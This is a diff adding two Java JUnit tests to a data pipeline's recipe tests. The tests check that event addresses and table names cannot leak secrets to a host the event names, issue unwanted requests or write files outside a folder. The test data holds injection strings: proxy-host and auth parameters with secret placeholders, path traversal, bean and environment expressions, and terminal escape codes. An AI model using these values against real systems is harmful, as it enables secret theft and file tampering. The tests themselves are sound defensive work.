@@ -8,6 +8,7 @@ import com.sun.net.httpserver.HttpServer;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
+import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
@@ -162,6 +163,71 @@ class RecipesTest {
         }
         assertThat(warehouse.lines("select id, context_ip, context_country from events.pages order by id"))
                 .containsExactly("p-1|203.0.113.1|NL", "p-2|203.0.113.1|NL", "p-3|198.51.100.2|∅", "p-4|∅|∅");
+    }
+
+    /** Whatever an event has where an address should be: nothing of it becomes a part of a request, an option or a setting. */
+    @Test
+    void anEventCannotHaveASecretSentToAHostThatItNames(TestWarehouse warehouse, TestBucket bucket) throws IOException {
+        try (var service = new Service(path -> "NL");
+                var thief = new Service(path -> "thanks")) {
+            var host = URI.create(thief.address());
+            bucket.putLines(
+                    "1.json",
+                    Stream.of(
+                                    "x?proxyHost=%s&proxyPort=%d&a={{warehouse.password}}",
+                                    "z?authMethod=Basic&authUsername={{storage.secret-access-key}}&authPassword={{warehouse.password}}"
+                                            + "&authenticationPreemptive=true&proxyAuthHost=%s&proxyAuthPort=%d&proxyAuthScheme=http",
+                                    "y?httpMethod=DELETE&b=1",
+                                    "../../admin",
+                                    "..",
+                                    "{{env:HOME}}",
+                                    "203.0.113.1@%s:%d",
+                                    "${bean:warehouse}",
+                                    "//%s:%d/")
+                            .map(address ->
+                                    page("p-" + address.hashCode(), address.formatted(host.getHost(), host.getPort())))
+                            .toArray(String[]::new));
+
+            cook("enrich-by-http", warehouse, bucket, "my.country-service=" + service.address() + "/of");
+
+            assertThat(service.requests()).isEmpty();
+            assertThat(thief.requests()).isEmpty();
+            assertThat(warehouse.number("select count(*) from events.pages")).isEqualTo(9);
+        }
+    }
+
+    /** Names of tables in lines that RudderStack has mapped are what a sender likes. */
+    @Test
+    void aTableCannotHaveAFileWrittenElsewhere(TestWarehouse warehouse, TestBucket bucket, @TempDir Path copies)
+            throws IOException {
+        var folder = Files.createDirectories(copies.resolve("one/two/three"));
+        var names = List.of(
+                "{{warehouse.password}}",
+                "y/../../../../../written-outside",
+                "..",
+                "x?fileName=y&charset=z",
+                "${bean:warehouse}",
+                "a\\u001b[31m\\nb");
+        for (var name : names) {
+            bucket.putLines(
+                    names.indexOf(name) + ".json",
+                    "{\"data\":{\"id\":\"s1\"},\"metadata\":{\"table\":\"%s\",\"columns\":{\"id\":\"string\"},\"receivedAt\":\"2024-03-05T00:00:00.000Z\"}}"
+                            .formatted(name));
+        }
+
+        cook("copy-to-file", warehouse, bucket, "my.copy-folder=" + folder);
+
+        try (var files = Files.walk(copies)) {
+            assertThat(files.filter(Files::isRegularFile)
+                            .map(file -> copies.relativize(file.getParent()).toString()))
+                    .containsExactlyInAnyOrder(
+                            "one/two/three/events.%7B%7Bwarehouse.password%7D%7D",
+                            "one/two/three/events.y%2F..%2F..%2F..%2F..%2F..%2Fwritten-outside",
+                            "one/two/three/events...",
+                            "one/two/three/events.x%3FfileName%3Dy%26charset%3Dz",
+                            "one/two/three/events.%24%7Bbean%3Awarehouse%7D",
+                            "one/two/three/events.a%1B%5B31m%0Ab");
+        }
     }
 
     @Test
